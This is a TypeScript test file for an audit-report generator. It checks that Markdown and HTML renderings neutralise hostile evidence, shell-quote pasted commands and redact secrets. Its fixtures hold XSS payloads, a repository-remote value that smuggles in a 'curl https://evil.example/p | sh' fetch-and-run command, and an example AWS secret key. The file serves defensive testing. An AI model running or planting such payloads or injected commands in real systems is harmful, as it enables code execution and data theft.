import { Parser as CommonmarkParser, HtmlRenderer } from 'commonmark';
import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { parse as parseShell } from 'shell-quote';
import { describe, expect, it } from 'vitest';
import { buildReport } from '../../app/report/build';
import { renderHtml } from '../../app/report/html';
import { renderMarkdown } from '../../app/report/markdown';
import { REPORT_OUTPUT_LINES } from '../../app/report/text';
import { input, session, view } from '../support/reportLedger';

// Issue 12 items 11 and 18: the Markdown report read through real CommonMark/GFM renderers holds
// no markup the evidence supplied, every hostile text survives as text, the commands an auditor
// pastes are shell-quoted, and the report carries what an auditor reads first.

type Node = DefaultTreeAdapterMap['childNode'];

/** The elements and the text of an HTML fragment, as a browser would build them. */
function htmlTree(html: string): { tags: Set<string>; attributes: Set<string>; text: string } {
  const tags = new Set<string>();
  const attributes = new Set<string>();
  const texts: string[] = [];
  const walk = (n: Node | DefaultTreeAdapterMap['documentFragment']) => {
    if ('tagName' in n) {
      tags.add(n.tagName);
      for (const a of n.attrs) attributes.add(a.name);
    }
    if (n.nodeName === '#text') texts.push((n as DefaultTreeAdapterMap['textNode']).value);
    if ('childNodes' in n) for (const c of n.childNodes) walk(c);
  };
  walk(parseFragment(html));
  return { tags, attributes, text: texts.join('') };
}

const RENDERERS: Record<string, (md: string) => string> = {
  'marked (GFM)': (md) => marked.parse(md, { gfm: true, async: false }),
  'commonmark.js': (md) => new HtmlRenderer().render(new CommonmarkParser().parse(md)),
  'markdown-it (tables, no linkify)': (md) => new MarkdownIt({ html: true }).render(md),
};

// What the report itself writes; anything else came from the evidence.
const REPORT_TAGS = new Set(['h1', 'h2', 'h3', 'h4', 'p', 'ul', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code', 'pre', 'strong']);
const REPORT_ATTRIBUTES = new Set(['align', 'style']);

const HOSTILE_ARG = 'a\\|<img src=x onerror=alert(1)>';
const HOSTILE_NOTE = '[click](javascript:alert(1)) ![x](https://evil.example/p.png) <b>bold</b> &lt;i&gt; **strong** ~~gone~~ `tick` <https://evil.example>';
const HOSTILE_REMOTE = '/tmp/x; curl https://evil.example/p | sh #';
const BLOCK_STARTERS = ['# heading', '- item', '1. item', '---', '> quote', '    indented', '=== ', '<div onclick=x>'];

const hostile = session({
  id: 'bg-20261110-093000-0000000a', at: '2026-11-10T09:30:00.000Z', incident: 'INC-2001',
  commands: [['sh', '-c', HOSTILE_ARG], ['printf', '`x`|y'], ...BLOCK_STARTERS.map((b) => ['echo', b])],
  outputs: ['```\n<script>alert(1)</script>\n```\n~~~\n', ...BLOCK_STARTERS.map(() => '')],
  note: HOSTILE_NOTE,
  declaration: {
    justification: `${BLOCK_STARTERS.join(' / ')} ${HOSTILE_ARG}`,
    materialRisk: '<iframe src=https://evil.example></iframe> customers down',
    governedPathsTried: [{ path: 'pipeline | <img src=y onerror=alert(2)>', failure: '# lock held\n- by a crashed job' }],
  },
});
const model = buildReport(input(view([hostile]), { sessionId: 'bg-20261110-093000-0000000a' }, { repository: { path: '/srv/evidence', remote: HOSTILE_REMOTE } }));
const md = renderMarkdown(model);

describe.each(Object.entries(RENDERERS))('the Markdown report through %s', (_name, render) => {
  const tree = htmlTree(render(md));

  it('has only the markup the report writes: no element or attribute from the evidence', () => {
    expect([...tree.tags].filter((t) => !REPORT_TAGS.has(t))).toEqual([]);
    expect([...tree.attributes].filter((a) => !REPORT_ATTRIBUTES.has(a))).toEqual([]);
  });

  it('keeps every hostile text as text, character for character', () => {
    for (const text of [HOSTILE_ARG, HOSTILE_NOTE, '`x`|y', '<iframe src=https://evil.example></iframe> customers down', 'pipeline | <img src=y onerror=alert(2)>', '<script>alert(1)</script>', ...BLOCK_STARTERS.map((b) => b.trim())]) {
      expect(tree.text).toContain(text);
    }
  });
});

describe('commands an auditor pastes', () => {
  it('quote the remote so a shell reads it as one word', () => {
    const clone = md.split('\n').find((l) => l.startsWith('git clone '));
    expect(clone).toBeDefined();
    expect(parseShell(clone!)).toEqual(['git', 'clone', HOSTILE_REMOTE, 'evidence']);
  });

  it('show each command line so a shell reads the recorded argv back', () => {
    const action = model.sessions[0]!.actions[0]!;
    expect(parseShell(action.commandLine)).toEqual(['sh', '-c', HOSTILE_ARG]);
  });
});

describe('what an auditor reads first (issue 12 item 18)', () => {
  const s = session({
    id: 'bg-20261111-100000-0000000b', at: '2026-11-11T10:00:00.000Z', incident: 'INC-2002',
    commands: [['terraform', 'force-unlock', '7f3c'], ['seq', '1', '500']],
    outputs: ['Terraform state has been successfully unlocked!\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n', Array.from({ length: 500 }, (_, i) => String(i + 1)).join('\n')],
    declaration: {
      justification: 'The state lock of the payments stack is held by a crashed pipeline run; no governed apply can proceed.',
      materialRisk: 'Card payments fail for every EU customer; SLA breach in 40 minutes.',
      governedPathsTried: [{ path: 'CI pipeline re-run', failure: 'Fails on the held lock (error 423).' }, { path: 'Platform on-call unlock', failure: 'On-call unreachable for 25 minutes.' }],
    },
  });
  const periodModel = buildReport(input(view([s]), { from: '2026-11-01', to: '2026-11-30' }));
  const formats = { markdown: renderMarkdown(periodModel), html: htmlTree(renderHtml(periodModel)).text };

  it.each(Object.entries(formats))('the %s period report holds the justification, material risk, governed paths with failures and attestations', (_f, text) => {
    for (const t of ['The state lock of the payments stack is held by a crashed pipeline run', 'Card payments fail for every EU customer', 'CI pipeline re-run', 'Fails on the held lock (error 423).', 'Platform on-call unlock', 'On-call unreachable for 25 minutes.']) {
      expect(text).toContain(t);
    }
    for (const a of ['Attested: Not for expediency', 'Attested: Not a routine change', 'Attested: Not to avoid governance']) expect(text).toContain(a);
  });

  it.each(Object.entries(formats))('the %s report holds each action\'s output, redacted again, and says how much it left out', (_f, text) => {
    expect(text).toContain('Terraform state has been successfully unlocked!');
    expect(text).not.toContain('wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY');
    expect(text).toMatch(/further redaction/);
    expect(text).toContain(`\n${REPORT_OUTPUT_LINES}\n`);
    expect(text).not.toContain(`\n${REPORT_OUTPUT_LINES + 1}\n`);
    expect(text).toContain(`${500 - REPORT_OUTPUT_LINES} more lines in the record`);
  });
});
